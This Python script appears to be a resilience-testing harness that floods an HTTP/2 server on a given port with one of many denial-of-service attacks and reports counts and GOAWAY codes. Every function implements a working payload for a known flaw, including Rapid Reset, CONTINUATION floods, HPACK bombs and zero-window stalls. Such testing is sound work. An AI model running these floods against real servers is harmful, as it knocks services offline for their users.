"""One attack on a server of HTTP/2 with prior knowledge: as much of it as a connection bears, then the next, until the time is over.

    http2_attack.py PORT KIND SECONDS [goaway]

With `goaway` it goes on until the first one comes, a minute at most: it may have little of a machine.

Prints as JSON: connections, frames, bytes, and the codes of the GOAWAYs by number.
"""
import json
import select
import sys
import time

import hpack

from http2_frames import CODES, GOAWAY, PREFACE, Frames, frame, goaway

WINDOW = 2 ** 31 - 1


class Connection:
    """A socket that reads what comes and notes the GOAWAY. `send` is false when the connection is over."""
    def __init__(self, port, seen, settings=b''):
        self.seen = seen
        self.frames = Frames(port, 10)
        self.encoder = hpack.Encoder()
        self.over = False
        self.stream = -1
        seen['connections'] += 1
        self.send(PREFACE + frame(4, 0, 0, settings), 1)

    def read(self, limit=0):
        while not self.over and select.select([self.frames], [], [], limit)[0]:
            for whole in self.frames.read():
                if whole[3] == GOAWAY:
                    code = CODES[goaway(whole)[0]]
                    self.seen['goaways'][code] = self.seen['goaways'].get(code, 0) + 1
            self.over = self.frames.closed
            limit = 0

    def send(self, data, frames, reads=True):
        if reads:
            self.read()
        if self.over:
            return False
        if not self.frames.send(data):
            self.over = True
            return False
        self.seen['frames'] += frames
        self.seen['bytes'] += len(data)
        return True

    def next(self):
        self.stream += 2
        return self.stream

    def head(self, path='/slow', method='GET', fields=()):
        return self.encoder.encode([(':method', method), (':scheme', 'http'), (':path', path), (':authority', 'x'), *fields])

    def request(self, path='/slow', method='GET', flags=5, fields=()):
        return frame(1, flags, self.next(), self.head(path, method, fields))

    def end(self):
        """Waits a moment for the GOAWAY."""
        self.read(1)
        self.frames.socket.close()


def setting(code, value):
    return code.to_bytes(2, 'big') + value.to_bytes(4, 'big')


def rapid_reset(c):
    """CVE-2023-44487: a request and its reset, as fast as it goes."""
    return c.send(b''.join(c.request() + frame(3, 0, c.stream, b'\0\0\0\10') for _ in range(50)), 100)


def made_you_reset(c):
    """CVE-2025-8671: the server is made to reset the stream itself, by a window that overflows."""
    return c.send(b''.join(c.request('/slow') + frame(8, 0, c.stream, WINDOW.to_bytes(4, 'big')) for _ in range(50)), 100)


def continuation(c):
    """CVE-2024-27316 and its like: a block that never ends."""
    if c.stream < 0:
        return c.send(frame(1, 1, c.next(), c.head()), 1)
    return c.send(frame(9, 0, c.stream, b'\0\1a\1b' * 200) * 10, 10)


def empty_continuation(c):
    """The same without a byte in it."""
    if c.stream < 0:
        return c.send(frame(1, 1, c.next(), c.head()), 1)
    return c.send(frame(9, 0, c.stream, b'') * 500, 500)


def settings(c):
    """CVE-2019-9515: each is to be acknowledged; the acknowledgements are not read."""
    return c.send(frame(4, 0, 0, b'') * 500, 500, reads=False)


def settings_table(c):
    """The size of the header table goes up and down."""
    return c.send((frame(4, 0, 0, setting(1, 0)) + frame(4, 0, 0, setting(1, 65536))) * 250, 500)


def ping(c):
    """CVE-2019-9512: each is to be answered; the answers are not read."""
    return c.send(frame(6, 0, 0, b'12345678') * 500, 500, reads=False)


def empty_data(c):
    """CVE-2019-9518, RUSTSEC-2026-0258: frames without content, on a request that does not end."""
    if c.stream < 0:
        return c.send(c.request('/slow', 'POST', 4), 1)
    return c.send(frame(0, 0, c.stream, b'') * 500, 500)


def padded_data(c):
    """Frames of padding alone."""
    if c.stream < 0:
        return c.send(c.request('/slow', 'POST', 4), 1)
    return c.send(frame(0, 8, c.stream, b'\1\0') * 500, 500)


def priority(c):
    """CVE-2019-9513: streams that depend on each other, and change it."""
    return c.send(b''.join(frame(2, 0, 2 * n + 1, (2 * n + 3).to_bytes(4, 'big') + b'\7') for n in range(500)), 500)


def window_update(c):
    """Windows that grow by one byte at a time."""
    return c.send(frame(8, 0, 0, b'\0\0\0\1') * 500, 500)


def unknown(c):
    """Frames of a type that nobody knows."""
    return c.send(frame(200, 0, 0, b'x' * 1000) * 100, 100)


def bomb(c):
    """CVE-2016-6581: one field of 4 KiB in the table, named a thousand times in each block of 1 KiB."""
    fields = b'\x40\1a\x7f\xe1\x1e' + b'v' * 4064 if c.stream < 0 else b''
    return c.send(frame(1, 5, c.next(), b'\x82\x84\x86\x41\1x' + fields + b'\xbe' * 1000), 1)


def cookies(c):
    """A thousand pieces of Cookie, a byte each in its block."""
    first = b'\x60\5a=bcd' if c.stream < 0 else b''
    return c.send(frame(1, 5, c.next(), b'\x82\x84\x86\x01\1x' + first + b'\xbe' * 1000), 1)


def list_too_large(c):
    """Heads of 15 KiB in one frame, 16 of them in a block."""
    value = b'\0\1a\x7f\x81\x75' + b'v' * 15104
    out = frame(1, 1, c.next(), c.head() + b'')
    for n in range(16):
        out += frame(9, 4 if n == 15 else 0, c.stream, value)
    return c.send(out, 17)


def no_window(c):
    """CVE-2019-9517: a hundred responses of 1 MiB, and no window to send them in."""
    if c.stream < 0:
        return c.send(b''.join(c.request('/large') for _ in range(100)), 100)
    time.sleep(0.1)
    return c.send(frame(6, 0, 0, b'12345678'), 1)


def one_byte_windows(c):
    """CVE-2019-9511: the same, a byte at a time."""
    if c.stream < 0:
        return c.send(b''.join(c.request('/large') for _ in range(100)), 100)
    return c.send(b''.join(frame(8, 0, 2 * n + 1, b'\0\0\0\1') for n in range(100)) * 5, 500)


def not_read(c):
    """CVE-2019-9517: a window of 2 GiB, and a socket that is not read."""
    if c.stream < 0:
        return c.send(frame(8, 0, 0, (WINDOW - 65535).to_bytes(4, 'big')) + b''.join(c.request('/large') for _ in range(100)), 101, False)
    time.sleep(0.1)
    return c.send(frame(6, 0, 0, b'12345678'), 1, False)


def slow_uploads(c):
    """A hundred requests with content, a byte of each now and then."""
    if c.stream < 0:
        return c.send(b''.join(c.request('/slow', 'POST', 4) for _ in range(100)), 100)
    time.sleep(0.1)
    return c.send(b''.join(frame(0, 0, 2 * n + 1, b'x') for n in range(100)), 100)


def streams(c):
    """As many requests as there may be at once, and more."""
    time.sleep(0.02)
    return c.send(b''.join(c.request() for _ in range(150)), 150)


SETTINGS = {'no_window': setting(4, 0), 'one_byte_windows': setting(4, 0), 'not_read': setting(4, WINDOW)}


def attack(port, kind, seconds, wanted=None):
    seen = {'connections': 0, 'frames': 0, 'bytes': 0, 'goaways': {}, 'ended': 0}
    until = time.time() + seconds

    def goes_on():
        return time.time() < until or (wanted and not seen['goaways'] and time.time() < until + 60)
    while goes_on():
        try:
            c = Connection(port, seen, SETTINGS.get(kind, b''))
            while goes_on() and globals()[kind](c):
                pass
            seen['ended'] += c.over
            c.end()
        except OSError:
            time.sleep(0.05)
    return seen


if __name__ == '__main__':
    if sys.argv[1] == '--kinds':
        print(json.dumps([name for name, one in globals().items() if getattr(one, '__code__', None) and one.__code__.co_varnames[:1] == ('c',)]))
    else:
        print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), *sys.argv[4:])))
